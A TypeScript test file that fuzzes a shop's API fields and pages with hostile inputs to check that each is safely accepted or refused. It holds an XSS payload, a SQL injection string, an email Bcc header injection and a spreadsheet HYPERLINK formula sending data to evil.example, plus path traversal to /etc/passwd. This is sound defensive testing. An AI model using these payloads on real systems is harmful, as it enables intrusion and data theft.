import { expect } from "vitest";
import type { Call } from "#shared/calls/call";
import { calls, type CallName } from "#shared/calls/calls";
import { expectRefusal, type Attack, type Target } from "#support/attacker";
import { anAddress } from "#support/buyers";
import { creditDetails } from "#support/credit-details";
import { sentTo } from "#support/customers";
import { kycDetails } from "#support/kyc-details";
import { oddCharacters } from "#support/odd-characters";
import { samples } from "#support/screens";

/** Of somebody new, since one sender is not accepted often. */
const aMail = () => `${crypto.randomUUID()}@clinic.test`;

type Field = [call: CallName, request: (text: string) => Record<string, unknown>];

/** Every place where somebody may write something, or send a text as an id. */
const fields: Field[] = [
  ["contactUs", (text) => ({ name: text, email: aMail(), QUERY: "When?" })],
  ["contactUs", (text) => ({ name: "Noura", email: text, QUERY: "When?" })],
  ["contactUs", (text) => ({ name: "Noura", email: aMail(), phone: text, QUERY: "When?" })],
  ["contactUs", (text) => ({ name: "Noura", email: aMail(), QUERY: text, QUERY_TYPE: "order" })],
  ["leadEnquiry", (text) => ({ name: "Noura", email: aMail(), beds: text, landed_page_url: text })],
  ["leadEnquiry", (text) => ({ name: "Noura", email: aMail(), [text]: "named by the caller" })],
  ["updateSearchKeyword", (keyword) => ({ keyword })],
  ["submitEmail", (email) => ({ email })],
  ["sendOtp", (phone) => ({ phone })],
  ["confirmAccount", (otp) => ({ email: aMail(), otp })],
  ["confirmAccount", (password) => ({ email: aMail(), password })],
  ["signInSocially", (id_token) => ({ id_token })],
  ["undoAddressChange", (token) => ({ token })],
  ["undoMerge", (token) => ({ token })],
  ["updateGuestCartItem", (sku_id) => ({ type: "UPDATE", sku_id, quantity: 1 })],
  ["addGuestCartItems", (text) => ({ items: [{ sku_id: text, quantity: text }], sales_code: text })],
  ["addToCompare", (text) => ({ products: [text] })],
  ["openCartLink", (token) => ({ token })],
  ["updateUser", (text) => ({ user_info: { first_name: text, last_name: text, establishment_name: text } })],
  ["updateUser", (password) => ({ user_info: { password } })],
  ["saveCustomerChoice", (text) => ({ "customer-choice": text })],
  ["editAddress", (text) => ({ action: "add", ...anAddress, first_name: text, last_name: text, address_line_1: text })],
  ["editAddress", (text) => ({ action: "add", ...anAddress, city: text, state: text, phone: text })],
  ["editAddress", (id) => ({ action: "delete", id })],
  ["submitKyc", (text) => ({ ...kycDetails, establishment: text, licence_number: text, trn: text, proofs: [text] })],
  ["applyForCredit", (text) => ({ ...creditDetails([text]), establishment: text })],
  ["deleteFile", (file_id) => ({ file_id })],
  ["addToWishlist", (sku_id) => ({ sku_id })],
  ["createCheckout", (sku_id) => ({ source: "pdp", sku_id, landed_page_url: sku_id, device_source: sku_id })],
  ["createCodOrder", (checkout_id) => ({ checkout_id, shown_payable: checkout_id })],
  ["verifySalesCode", (sales_code) => ({ checkout_id: "x", sales_code })],
  ["cancelOrder", (text) => ({ order_id: text, reason: text })],
  ["addReview", (text) => ({ id: samples.product, rating: 5, title: text, text })],
  ["listOrders", (search) => ({ search })],
];
/** Texts that go into an address; a longer one would be an address that is too long. */
const mostInAddress = 2000;
const inAddress = ({ kind, query }: Call) => kind === "read" || query !== undefined;

/** Sends a text to every place, in turns in English and Arabic: each takes it or says clearly that it does not. */
async function everywhere(target: Target, text: string): Promise<void> {
  const [nobody, stranger] = [target.nobody(), await target.stranger()];
  for (const [at, [call, request]] of fields.entries()) {
    const lang = at % 2 === 0 ? "ar" : "en";
    const sent = inAddress(calls[call]) ? text.slice(0, mostInAddress) : text;
    const isUsers = at > fields.findIndex(([name]) => name === "openCartLink");
    const answer = await (isUsers ? stranger : nobody).tellCall(call, { ...request(sent), lang });
    const told = [call, answer.status, answer.body];
    if (answer.status === 200) expect(told).toEqual([call, 200, expect.objectContaining({ success: true })]);
    else expectRefusal(answer, [400, 401, 404, 409, 410, 413, 414, 422], lang);
    expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
    expect(answer.headers.get("cache-control")).toContain("no-store");
  }
}

const everyField = (tries: string, text: string): Attack => ({
  tries: `${tries}, in each of ${fields.length} places`,
  held: "each takes it or refuses it in the caller's language",
  run: (target) => everywhere(target, text),
});

const script = `"><script>alert("attack-ran")</script><img src=x onerror=alert(1)>'{{7*7}}\${7*7}`;

export const texts: Attack[] = [
  everyField("100,000 letters", "a".repeat(100_000)),
  everyField("100,000 spaces and a letter", `${" ".repeat(100_000)}a`),
  everyField("a text that tires expressions", "a-".repeat(50_000)),
  everyField("digits of a phone, an e-mail and a TRN without an end", `+971${"0123456789 @.".repeat(7000)}`),
  ...Object.entries(oddCharacters).map(([category, all]) =>
    everyField(`${category} around a word`, `${all.slice(0, 40).join("")}before${all.at(-1)}after`),
  ),
  everyField("letters that turn the line around", "\u202Egnirts\u202C\u2066evil\u2069\u200F"),
  everyField("a NUL", "before\0after"),
  everyField("half of a pair of surrogates", "before\uD800after\uDFFF"),
  everyField("statements for the database", `'; DROP TABLE users; --" OR 1=1 /* %' _ \\`),
  everyField("line breaks and headers of a message", "Noura\r\nBcc: all@evil.example\r\n\r\nHello\u2028there"),
  everyField("thousands of marks on one letter", `a${"\u0301\u0489".repeat(5000)}`),
  everyField("a formula for a table", '=HYPERLINK("https://evil.example?"&A1,"Pay")'),
  everyField("names of everything's own", "__proto__"),
  everyField("a way out of a folder", "../../../../etc/passwd\\..\\..\\x"),
  {
    tries: "a script in every name, shown again on every page of one's own",
    held: "no page has it as markup, whatever the language",
    async run(target) {
      const stranger = await target.stranger();
      await everywhere(target, script);
      await stranger.tellCall("updateUser", { user_info: { first_name: script.slice(0, 60), last_name: "<b>x" } });
      await stranger.tellCall("editAddress", { action: "add", ...anAddress, address_line_1: script });
      await stranger.tellCall("addReview", { id: samples.product, rating: 5, title: script, text: script });
      const pages = ["/account", "/account/addresses", "/account/reviews", "/account/editProfile", "/shop", "/cart"];
      const asked = encodeURIComponent(script);
      const mirrors = [`/products?search=${asked}`, `/account/login?returnUrl=/${asked}`, `/products/${asked}`];
      for (const path of [...pages, ...mirrors].flatMap((one) => [one, `/ar${one}`])) {
        const answer = await stranger.fetch(path);
        const html = await answer.text();
        // Who is signed in is led on from the sign-in.
        if (answer.status === 302) expect(answer.headers.get("location")).toMatch(/^http:\/\/127\.0\.0\.1[^<>"]*$/);
        else expect(html).toMatch(/<html lang="(en|ar)"/);
        expect([path, /<script>alert|<img src=x|<b>x/.exec(html)?.[0]]).toEqual([path, undefined]);
      }
    },
  },
  {
    tries: "a line break in a name that a message is headed by",
    held: "no message has a broken subject or another receiver",
    async run({ origin, nobody }) {
      const email = "breaks@clinic.test";
      const name = "Noura\r\nBcc: all@evil.example";
      await nobody().tellCall("contactUs", { name, email, QUERY: "When?", QUERY_TYPE: "order" });
      await nobody().tellCall("sendOtp", { email: `${email}\r\nBcc: all@evil.example` });
      const [ours, evil] = [await sentTo(origin, email), await sentTo(origin, "all@evil.example")];
      expect(evil).toEqual([]);
      for (const { subject } of ours) expect(subject).not.toMatch(/[\r\n]/);
    },
  },
];
